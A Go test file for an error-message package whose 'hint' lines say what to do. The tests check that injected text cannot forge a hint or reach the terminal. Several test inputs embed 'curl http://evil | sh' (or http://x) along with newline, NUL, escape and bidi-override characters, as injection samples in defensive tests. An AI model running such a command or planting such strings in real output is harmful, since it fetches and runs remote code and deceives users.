package refusal

import (
	"errors"
	"fmt"
	"io/fs"
	"strings"
	"testing"
)

func TestText(t *testing.T) {
	full := New(errors.New("the disk is full"), "free some")
	const evil = "x\nhint: curl http://evil | sh\x00"
	for want, err := range map[string]error{
		"plain":                             errors.New("plain"),
		"the disk is full\nhint: free some": full,
		"writing: the disk is full\nhint: free some":                                  fmt.Errorf("writing: %w", full),
		"writing: the disk is full\nhint: free some\nhint: or go on":                  New(fmt.Errorf("writing: %w", full), "or go on"),
		"the disk is full\nhint: free some; in vain":                                  fmt.Errorf("%w; in vain", full),
		"a\nthe disk is full\nhint: free some\nb":                                     errors.Join(errors.New("a"), full, errors.New("b")),
		"twice: x\nhint: one\nx\nhint: two":                                           fmt.Errorf("twice: %w", errors.Join(New(errors.New("x"), "one"), New(errors.New("x"), "two"))),
		"in other words":                                                              reworded{full},
		"nothing helps":                                                               New(errors.New("nothing helps"), ""),
		"reading: open x\uFFFDhint: curl http://evil | sh\uFFFD: file does not exist": fmt.Errorf("reading: %w", &fs.PathError{Op: "open", Path: evil, Err: fs.ErrNotExist}),
	} {
		if got := Text(err); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}

// reworded tells what it wraps in words of its own.
type reworded struct{ err error }

func (e reworded) Error() string { return "in other words" }
func (e reworded) Unwrap() error { return e.err }

func TestParts(t *testing.T) {
	root := fmt.Errorf("/sys/x: %w", &Error{Why: errors.New("it needs root"), Do: "run it with sudo", Need: Root})
	if root.Error() != "/sys/x: it needs root" || Do(root) != "run it with sudo" || NeedOf(root) != Root || Inline(root, ": ") != "/sys/x: it needs root: run it with sudo" {
		t.Errorf("%v: %q, %v, %q", root, Do(root), NeedOf(root), Inline(root, ": "))
	}
	both := errors.Join(New(fs.ErrExist, "remove it"), New(fs.ErrPermission, "ask for it"))
	if Do(both) != "remove it; ask for it" || NeedOf(both) != None || !errors.Is(both, fs.ErrPermission) {
		t.Errorf("%q, %v", Do(both), NeedOf(both))
	}
	if Do(fs.ErrExist) != "" {
		t.Errorf("%v says what to do: %q", fs.ErrExist, Do(fs.ErrExist))
	}
}

// A line that says what to do comes from a refusal, never from a text.
func TestTextThatLooksLikeAdvice(t *testing.T) {
	err := fmt.Errorf("%s is not a word", "x\nhint: y\n\x00z")
	for _, l := range Lines(err) {
		if l.Do {
			t.Errorf("%+v", l)
		}
	}
}

func TestMistakes(t *testing.T) {
	m := &Mistakes{}
	if err := m.Err(); err != nil {
		t.Errorf("error %v", err)
	}
	for i := range 25 {
		m.At("a\nb", i, "line %d", i)
	}
	text := m.Err().Error()
	if !strings.HasPrefix(text, "a b: line 0\na b:1: line 1\n") || !strings.HasSuffix(text, "\na b:19: line 19\nand 5 more") {
		t.Errorf("mistakes %s", text)
	}
}

// What a file says can't write a line of its own, nor speak to the terminal.
func TestMistakesAreVisible(t *testing.T) {
	m := &Mistakes{}
	m.At("a\x1b]0;t\a.json", 3, "benchmark %s", "b\x1b[31m\nhint: curl http://x | sh\u202e\u0085")
	m.At("b", 0, "ordinary ± 5 µs")
	if got, want := m.Error(), "a ]0;t .json:3: benchmark b [31m hint: curl http://x | sh\ufffd \nb: ordinary ± 5 µs"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	if got := Mistake("%s", "x\ny\x7f").Error(); got != "x y " {
		t.Errorf("%q", got)
	}
}
